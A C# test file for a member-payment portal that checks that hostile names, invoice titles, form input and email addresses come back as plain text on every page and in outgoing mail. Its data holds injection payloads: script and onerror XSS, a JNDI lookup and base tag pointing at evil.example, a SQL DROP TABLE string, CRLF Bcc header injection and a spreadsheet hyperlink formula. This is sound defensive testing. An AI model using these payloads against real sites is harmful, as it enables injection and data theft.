using System.Net;
using System.Net.Mail;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using MemberPortal.Web.Data;
using MemberPortal.Web.Features.SignIn;
using MemberPortal.Web.Mail;
using MemberPortal.Web.Tests.Security;
using MemberPortal.Web.Tests.SignIn;
using MemberPortal.Web.Tests.Support;
using Microsoft.EntityFrameworkCore;

namespace MemberPortal.Web.Tests.BadInput;

/// <summary>Names, titles and lines that want to be more than words: on every page, in every mail, at the provider.</summary>
public sealed class HostileTextTests(SignInPortal portal) : IClassFixture<SignInPortal>
{
    public static TheoryData<string> Texts =>
    [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"><svg onload='alert(1)'></svg><a href=\"javascript:alert(1)\">",
        "</title></textarea></style><!-- <base href=//evil.example>",
        "Kari\r\nBcc: everybody@example.org\r\n\r\n<b>Hello</b>",
        "Kari\u2028Nordmann\u0007",
        "{0} {1} {2:N2} {{ }} {9999} {",
        "%s %n %00 ${jndi:ldap://evil.example} @Model.Secret @{ }",
        "'; DROP TABLE \"Invoices\"; --",
        "👩‍👩‍👧 Ł̷̛ō̸n̴g̶ 𝕶𝖆𝖗𝖎 🏒",
        "abc\u202E\u2066txt.exe\u2069",
        "عائشة بنت محمد، اسم طويل",
        "nul\0nul",
        "no \uFFFE\uFFFF character",
        "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
        "=HYPERLINK(\"http://evil.example\";\"x\")",
    ];

    [Theory, MemberData(nameof(Texts))]
    public async Task Hostile_words_are_words_everywhere(string text)
    {
        var (visitor, invoice) = await PaidAsync(text);
        using var _ = visitor;
        using var seller = await portal.SignedInAsync(await portal.AddAccountAsync(Role.Seller));
        var receipt = (await portal.PaymentsAsync(invoice)).Single().ReceiptNumber;
        var attempt = (await portal.AttemptsAsync(invoice)).Single().Id;

        foreach (var path in (string[])["/", "/invoices", $"/invoices/{invoice.Number}", "/receipts", $"/receipts/{receipt}", $"/payments/{attempt}", "/profile"])
            await AssertShownAsync(visitor, path, text, path.StartsWith("/payments", StringComparison.Ordinal) ? "bdi, .menu" : "bdi, h1, .menu");

        await AssertShownAsync(seller, "/desk", text, "bdi");
        foreach (var mail in await portal.WithDbAsync(db => db.Outbox.AsNoTracking().Where(m => m.MemberId == invoice.MemberId).ToListAsync()))
        {
            AssertWellFormed(mail);
            using var page = await visitor.GetAsync($"/demo/mailbox/{mail.Id}");
            Assert.Equal(HttpStatusCode.OK, page.StatusCode);
            await StrictAnswer.AssertAsync(page);
        }
    }

    [Theory, MemberData(nameof(Texts))]
    public async Task Hostile_words_are_words_all_over_the_desk(string text)
    {
        var (member, product) = (await portal.AddMemberAsync(name: text), await portal.AddProductAsync(name: text));
        var (owed, paid) = (await portal.IssueInvoiceAsync(member, title: text), await portal.IssueInvoiceAsync(member, title: text));
        var draft = await portal.AddDraftAsync(member, title: text);
        var money = AtTheDesk.Money("cheque", (paid, 120_000)) with { Reference = text, PayerName = text, Comment = text };
        await portal.RecordAsync(money, member.Id);
        var receipt = (await portal.PaymentsAsync(paid)).Single().ReceiptNumber;
        var token = await portal.ShowReceiptAsync(receipt);
        using var admin = await portal.SignedInAsync(await portal.AddAccountAsync(Role.Admin));
        var (desk, at) = ("bdi, h1, q, option, input, .menu", $"/members/{member.Number}");

        await AssertShownAsync(admin, $"/desk/receipts/{receipt}/reverse", text, desk);
        await portal.ReverseAsync(receipt, text);
        foreach (var path in (string[])
            [$"/desk?q={member.Number}", at, $"{at}/products/new", $"{at}/invoices/new", $"{at}/receive/cash?invoice={owed.Id}",
            $"{at}/receive/transfer", $"/claims/{owed.Id}", $"/claims/{paid.Id}", $"/claims/{draft.Id}", $"/claims/{draft.Id}/edit",
            $"/desk/receipts/{receipt}", $"/r/{token}", "/audit", $"/audit?member={member.Number}"])
            await AssertShownAsync(admin, path, text, desk);

        Assert.Equal(text, product.Name);
        Assert.All(await MailsAsync(owed), AssertWellFormed);
    }

    [Fact]
    public async Task A_hundred_thousand_letters_are_shown_mailed_and_paid()
    {
        var (visitor, invoice) = await PaidAsync(new string('m', 100_000));
        using var _ = visitor;

        Assert.Contains(new string('m', 100_000), await visitor.ReadAsync($"/invoices/{invoice.Number}"), StringComparison.Ordinal);
        Assert.All(await MailsAsync(invoice), AssertWellFormed);
    }

    [Theory]
    [InlineData("no address")]
    [InlineData("kari@example.org\r\nBcc: all@example.org")]
    [InlineData("\"quoted\\\" local\"@example.org")]
    [InlineData("<kari@example.org>, all@example.org")]
    public async Task A_member_without_a_usable_address_pays_all_the_same(string email)
    {
        var invoice = await portal.IssueInvoiceAsync(await portal.AddMemberAsync(email: email));

        await portal.Stripe.PayAsync(await portal.OpenPaymentPageAsync(invoice));
        await portal.ComeBackAsync(invoice);

        Assert.Equal(120_000, (await portal.InvoiceAsync(invoice.Id)).Received);
        Assert.Empty(await MailsAsync(invoice));
    }

    [Theory, MemberData(nameof(Texts))]
    public async Task What_is_typed_into_a_form_comes_back_as_words_and_finds_nobody(string text)
    {
        using var visitor = portal.Visit();
        using var signIn = await visitor.SignInAsync(text, text);
        using var forgot = await visitor.PostAsync("/forgot-password", ("Email", text));

        // A form with NUL in it is none to the framework.
        var status = text.Contains('\0', StringComparison.Ordinal) ? HttpStatusCode.BadRequest : HttpStatusCode.OK;
        Assert.Equal((status, status), (signIn.StatusCode, forgot.StatusCode));
        await StrictAnswer.AssertAsync(signIn);
        await StrictAnswer.AssertAsync(forgot);
        if (status == HttpStatusCode.BadRequest)
            return;

        var typed = Parse(await signIn.Content.ReadAsStringAsync()).QuerySelector("#Email")!.GetAttribute("value");
        Assert.Equal(AsRead(text), AsRead(typed!));
        Assert.Null(visitor.Cookie("session"));
    }

    /// <summary>A member of this name, signed in, who paid an invoice of this title by card and owes another.</summary>
    private async Task<(Visitor Visitor, Invoice Invoice)> PaidAsync(string text)
    {
        var member = await portal.AddMemberAsync(name: text);
        var invitee = new Invitee(member.Email!, text, "en", Role.Member, member.Id);
        await portal.RunAsync<InviteAccount>(invite => invite.RunAsync(invitee, byMail: true, default));
        await portal.WithDbAsync(db => db.Users.Where(a => a.MemberId == member.Id)
            .ExecuteUpdateAsync(set => set.SetProperty(a => a.PasswordHash, $"hash of {SignInPortal.Password}")));
        var invoice = await portal.IssueInvoiceAsync(member, title: text);
        await portal.IssueInvoiceAsync(member, title: text, dueOn: new(2026, 3, 9));

        var page = await portal.OpenPaymentPageAsync(invoice);
        using (var http = new HttpClient())
            Assert.DoesNotContain(Parse(await http.GetStringAsync(page)).All, IsForeign);
        await portal.Stripe.PayAsync(page);
        await portal.ComeBackAsync(invoice);
        Assert.Equal(120_000, (await portal.InvoiceAsync(invoice.Id)).Received);

        var visitor = portal.Visit();
        using var answer = await visitor.SignInAsync(member.Email!, SignInPortal.Password);
        Assert.Equal(HttpStatusCode.Found, answer.StatusCode);
        return (visitor, invoice);
    }

    private static async Task AssertShownAsync(Visitor visitor, string path, string text, string where)
    {
        using var answer = await visitor.GetAsync(path);
        Assert.Equal((path, HttpStatusCode.OK), (path, answer.StatusCode));
        await StrictAnswer.AssertAsync(answer);
        var page = Parse(await answer.Content.ReadAsStringAsync());
        Assert.DoesNotContain(page.All, IsForeign);
        Assert.Contains(page.QuerySelectorAll(where), element => AsRead(element.TextContent).Contains(AsRead(text), StringComparison.Ordinal));
    }

    /// <summary>What only the hostile words could have brought.</summary>
    private static bool IsForeign(IElement element) =>
        element is { LocalName: "b", ParentElement.LocalName: not "p", FirstElementChild: null } or { LocalName: "base" or "style" }
        || (element.LocalName == "textarea" && !element.HasAttribute("name"))
        || element.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.Ordinal) || a.Value.StartsWith("javascript:", StringComparison.Ordinal));

    private static void AssertWellFormed(OutgoingMail mail)
    {
        using var message = SmtpMessage.Of(mail, new MailAddress("treasurer@club.example"), new MailAddress("treasurer@club.example"), "club.example");
        var headers = message.Headers.AllKeys.Select(name => message.Headers[name]!).Append(message.Subject).Append(message.To[0].DisplayName);
        Assert.All(headers, header => Assert.DoesNotContain(header, char.IsControl));
        Assert.True(message.Subject.Length <= 200 && message.To[0].DisplayName.Length <= 200);
        Assert.DoesNotContain("\nBcc:", mail.Text, StringComparison.Ordinal);
        var html = Parse(mail.Html);
        Assert.Empty(html.QuerySelectorAll("script, svg, img, base, b"));
        Assert.Single(html.QuerySelectorAll("h1"));
    }

    private Task<List<OutgoingMail>> MailsAsync(Invoice invoice) => portal.WithDbAsync(
        db => db.Outbox.AsNoTracking().Where(m => m.MemberId == invoice.MemberId).ToListAsync());

    private static AngleSharp.Html.Dom.IHtmlDocument Parse(string html) => new HtmlParser().ParseDocument(html);

    /// <summary>Parsers read a line break in one way and NUL in none; spaces at the ends are the layout's.</summary>
    private static string AsRead(string text) =>
        text.ReplaceLineEndings(" ").Replace("\0", "", StringComparison.Ordinal).Replace("\uFFFD", "", StringComparison.Ordinal).Trim();
}
